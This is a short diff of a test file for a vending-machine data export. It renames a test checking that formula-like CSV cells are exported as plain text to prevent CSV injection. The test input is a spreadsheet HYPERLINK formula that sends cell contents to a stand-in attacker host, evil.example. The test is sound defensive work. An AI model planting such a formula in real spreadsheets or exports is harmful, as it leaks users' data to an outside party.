@@ -202,7 +202,7 @@ describe('vendgate export', () => {
     expect(csvField(-5)).toBe('-5');
   });
 
-  it('issue 25: a cell that starts like a formula is exported as text, as OWASP advises (CSV injection)', async () => {
+  it('a cell that starts like a formula is exported as text, as OWASP advises (CSV injection)', async () => {
     const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Water")';
     const device = await deviceWithOrders([
       { reference: 'vm-1-ev-1', item: evil, amount: 1500, state: 'vended', created: '2026-11-03T09:00:00Z' },
